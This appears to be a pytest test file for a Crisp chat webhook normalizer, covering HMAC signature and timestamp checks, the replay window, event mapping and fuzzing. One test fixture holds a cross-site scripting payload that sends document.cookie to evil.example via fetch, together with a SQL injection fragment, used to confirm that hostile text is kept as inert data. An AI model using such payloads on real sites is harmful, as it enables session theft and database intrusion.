"""Crisp web hooks normalizer: the corpus, events, the timestamped signature and replay window, properties."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.intake.channels import crisp
from services.intake.channels.base import CanonicalContact, Normalization, RawRequest, hmac_hex
from shared.schemas import Channel

from .checks import FUZZ, FUZZ_LIGHT, check_result, json_values, mutated, valid_documents
from .corpus_support import NOW, NOW_MS, SECRETS, Case, config, load_cases, payload_files, unsigned_config

CASES = load_cases("crisp")
BY_NAME = {case.name: case for case in CASES}
SESSION = "session_36ba3566-9651-4790-afc8-ffedbccc317f"


def signed(body: bytes, stamp: str = str(NOW_MS), signed_body: bytes | None = None) -> RawRequest:
    trace = b"[" + stamp.encode() + b";" + (body if signed_body is None else signed_body) + b"]"
    return RawRequest(
        body=body,
        headers={"X-Crisp-Request-Timestamp": stamp, "X-Crisp-Signature": hmac_hex(SECRETS["crisp"], trace)},
    )


def run(name: str, **overrides: Any) -> Normalization:
    return crisp.normalize(BY_NAME[name].request(), config(**overrides))


def one(name: str, outcome: str = "emit") -> CanonicalContact:
    result = run(name)
    assert result.outcome == outcome, result.reason
    (contact,) = result.contacts
    return contact


def test_expected_names_every_corpus_file() -> None:
    expected = json.loads((payload_files("crisp")[0].parent / "expected.json").read_text())
    assert set(expected) == {case.name for case in CASES}


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_corpus(case: Case) -> None:
    result = crisp.normalize(case.request(), config())
    check_result(result)
    assert result.outcome == case.expected["outcome"], result.reason
    assert result.reason_code == case.expected.get("reason_code"), result.reason
    assert len(result.contacts) == case.expected["count"]


# -- signature and replay window --------------------------------------------------------------------------------


def test_missing_and_wrong_signatures() -> None:
    assert run("bad_missing_signature.json").reason_code == "missing_signature"
    assert run("bad_wrong_signature.json").reason_code == "invalid_signature"


def test_the_timestamp_is_part_of_the_signature() -> None:
    case = BY_NAME["message_text.json"]
    moved = {**case.headers, "X-Crisp-Request-Timestamp": str(NOW_MS)}  # signature was made for another stamp
    assert crisp.normalize(RawRequest(body=case.body, headers=moved), config()).reason_code == "invalid_signature"


def test_missing_timestamp_header_is_a_missing_signature() -> None:
    case = BY_NAME["message_text.json"]
    headers = {k: v for k, v in case.headers.items() if k != "X-Crisp-Request-Timestamp"}
    assert crisp.normalize(RawRequest(body=case.body, headers=headers), config()).reason_code == "missing_signature"


def test_signature_over_json_stringify_of_a_reformatted_body_is_accepted() -> None:
    compact = BY_NAME["message_text.json"].body
    pretty = json.dumps(json.loads(compact), ensure_ascii=False, indent=2).encode()
    assert crisp.normalize(signed(pretty, signed_body=compact), config()).outcome == "emit"


def test_replay_window() -> None:
    assert run("bad_replayed.json").reason_code == "timestamp_out_of_range"
    assert run("bad_replayed.json", replay_window_seconds=0).outcome == "emit"  # 0 turns the check off
    assert run("bad_replayed.json", replay_window_seconds=3 * 3600).outcome == "emit"
    body = BY_NAME["message_text.json"].body
    assert crisp.normalize(signed(body, str(NOW_MS + 200_000)), config()).outcome == "emit"  # ahead, within 300 s
    assert crisp.normalize(signed(body, str(NOW_MS + 400_000)), config()).reason_code == "timestamp_out_of_range"
    assert crisp.normalize(signed(body, str(NOW_MS // 1000)), config()).outcome == "emit"  # seconds also read


def test_unreadable_timestamp_is_an_invalid_signature() -> None:
    assert crisp.normalize(signed(BY_NAME["message_text.json"].body, "ayer"), config()).reason_code == (
        "invalid_signature"
    )


@pytest.mark.parametrize("secret", [None, ""], ids=["none", "empty"])
def test_no_secret_configured_skips_verification_and_window(secret: str | None) -> None:
    assert run("bad_missing_signature.json", crisp_secret=secret).outcome == "emit"
    assert run("bad_wrong_signature.json", crisp_secret=secret).outcome == "emit"
    assert run("bad_replayed.json", crisp_secret=secret).outcome == "emit"


# -- events -----------------------------------------------------------------------------------------------------


def test_text_message() -> None:
    contact = one("message_text.json")
    assert contact.channel is Channel.webchat
    assert contact.provider == "crisp"
    assert contact.provider_message_id == f"{SESSION}:150698569649423"
    assert contact.thread_key == f"crisp:{SESSION}"
    assert contact.customer.name == "Laura Gómez"
    assert contact.customer.channel_ids == {"crisp": SESSION}
    assert contact.received_at == datetime(2026, 11, 23, 14, 0, tzinfo=UTC)
    assert contact.hints == {"email": ["laura@ferreteriaelsol.co"]}
    assert contact.raw_event == "message:send"


def test_file_and_animation_messages_are_attachments() -> None:
    file = one("message_file.json")
    assert file.body_text == "[archivo: captura-error-cierre.png]"
    (attachment,) = file.attachments
    assert (attachment.name, attachment.content_type) == ("captura-error-cierre.png", "image/png")
    assert attachment.reference and attachment.reference.startswith("https://storage.crisp.chat/")
    animation = one("message_animation.json")
    assert animation.attachments[0].name == "giphy.gif"
    assert animation.body_text == "[animación]"
    assert animation.customer.name is None  # "visitor493603" is Crisp's placeholder, not a name
    assert one("message_audio.json").body_text == "[nota de voz]"


def test_set_email_updates_the_session() -> None:
    contact = one("set_email.json", outcome="update")
    assert contact.customer.email == "jorge.ramirez@abarroteslaesperanza.mx"
    assert contact.thread_key == "crisp:session_8f2c1a9e-77d4-4b1e-9a61-3c0f5d2e4b17"
    assert contact.raw_event == "session:set_email"


@pytest.mark.parametrize("name", ["message_received_operator.json", "session_set_nickname.json", "message_picker.json"])
def test_other_documented_events_are_ignored(name: str) -> None:
    assert run(name).outcome == "ignore"


def test_undocumented_event_is_rejected() -> None:
    result = run("bad_unknown_event.json")
    assert result.reason_code == "unknown_event_type"
    assert "visitor:teleported" in result.reason


def test_operator_message_sent_as_message_send_is_ignored() -> None:
    doc = json.loads(BY_NAME["message_text.json"].body)
    doc["data"]["from"] = "operator"
    assert crisp.normalize(signed(json.dumps(doc).encode()), config()).outcome == "ignore"


def test_hostile_text_is_kept_verbatim() -> None:
    assert one("hostile_text.json").body_text == (
        "<script>fetch('//evil.example/'+document.cookie)</script> 1' OR '1'='1"
    )


def test_invalid_email_and_missing_session_name_the_field() -> None:
    assert run("bad_invalid_email.json").reason.startswith("data.email")
    assert run("bad_missing_session.json").reason.startswith("data.session_id")


def test_future_and_missing_message_time() -> None:
    assert run("bad_future_timestamp.json").reason_code == "timestamp_out_of_range"
    doc = json.loads(BY_NAME["message_text.json"].body)
    del doc["data"]["timestamp"], doc["timestamp"]
    (contact,) = crisp.normalize(signed(json.dumps(doc).encode()), config()).contacts
    assert contact.received_at == NOW


# -- properties -------------------------------------------------------------------------------------------------


@FUZZ
@given(st.binary(max_size=600))
def test_arbitrary_bytes_never_raise(body: bytes) -> None:
    check_result(crisp.normalize(RawRequest(body=body, headers={}), unsigned_config()))
    check_result(crisp.normalize(signed(body), config()))


@FUZZ_LIGHT
@given(json_values)
def test_arbitrary_json_never_raises(doc: Any) -> None:
    check_result(crisp.normalize(RawRequest(body=json.dumps(doc).encode(), headers={}), unsigned_config()))


@FUZZ
@given(mutated(valid_documents(CASES)))
def test_mutated_hooks_never_raise(body: bytes) -> None:
    check_result(crisp.normalize(RawRequest(body=body, headers={}), unsigned_config()))


@FUZZ_LIGHT
@given(st.text(max_size=30), st.text(max_size=70))
def test_arbitrary_signature_headers_never_raise(stamp: str, signature: str) -> None:
    headers = {"X-Crisp-Request-Timestamp": stamp, "X-Crisp-Signature": signature}
    check_result(crisp.normalize(RawRequest(body=BY_NAME["message_text.json"].body, headers=headers), config()))
    check_result(crisp.normalize(signed(BY_NAME["message_text.json"].body, stamp or "0"), config()))
